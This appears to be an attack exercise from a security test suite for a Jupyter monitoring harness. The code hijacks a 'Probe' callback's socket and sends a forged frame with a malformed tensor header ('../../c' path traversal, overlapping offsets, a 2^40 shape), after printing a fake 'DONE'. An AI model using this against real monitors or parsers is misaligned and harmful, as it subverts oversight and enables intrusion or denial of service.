# /// attack
# exercise = "control-flow-vector"
# defended-by = ["design"]
# costs = true
# ///

# %% name="scalar"
import json
import struct

from IPython import get_ipython

print("DONE", flush=True)
(probe,) = {
    f.__self__ for f in get_ipython().events.callbacks["post_run_cell"] if "Probe" in repr(f)
}
head = json.dumps(
    {
        "a": {"dtype": "F64", "shape": [2], "data_offsets": [0, 16]},
        "b": {"dtype": "F64", "shape": [2], "data_offsets": [8, 24]},
        "../../c": {"dtype": "F64", "shape": [1 << 40], "data_offsets": [0, 8]},
    }
).encode()
blob = struct.pack("<Q", len(head)) + head + bytes(24)
text = json.dumps({"frame": "cell", "count": probe.count, "seconds": 0, "names": {}}).encode()
end = probe.channel.socket
end.sendall(struct.pack(">4sIQ", b"GRD1", len(text), len(blob)) + text + blob)
